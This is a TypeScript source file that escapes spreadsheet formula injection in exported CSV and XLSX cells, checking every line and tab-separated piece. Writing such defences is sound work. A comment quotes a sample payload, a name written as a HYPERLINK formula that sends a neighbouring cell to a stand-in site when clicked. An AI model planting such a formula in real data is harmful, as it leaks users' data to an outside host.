// Formula injection: a spreadsheet runs a cell that starts with = + - @ as a formula, and people
// type the names and purposes we export (a customer called `=HYPERLINK("https://x/?d="&D2,"…")`
// sends the neighbouring cells to that site when clicked). Papa Parse's own `escapeFormulae`
// looks at the first line only, so "=…\n" slipped through; and a line after a break or a tab
// becomes the start of a cell again when the text is pasted into a sheet or split by an importer.
// So every line and tab-separated piece is checked, and one function serves the .csv and the
// .xlsx alike (an .xlsx text cell is not a formula, but becomes one when edited or saved as .csv).

/** Breaks after which a spreadsheet or importer may start a new cell or line of input. */
const PIECE_START = /(^|\r\n|[\n\r\t\v\f\u0085\u2028\u2029])(?=[=+\-@])/g;
/** A leading tab or carriage return: some spreadsheets skip it and read what follows. */
const LEADING_BLANK = /^[\t\r]/;

/**
 * The cell's text with an apostrophe (the spreadsheet's own "this is text" mark) before every
 * piece that would start a formula; text that cannot is returned unchanged.
 */
export function neutraliseFormulae(cell: string): string {
  const escaped = cell.replace(PIECE_START, "$1'");
  return LEADING_BLANK.test(escaped) ? `'${escaped}` : escaped;
}
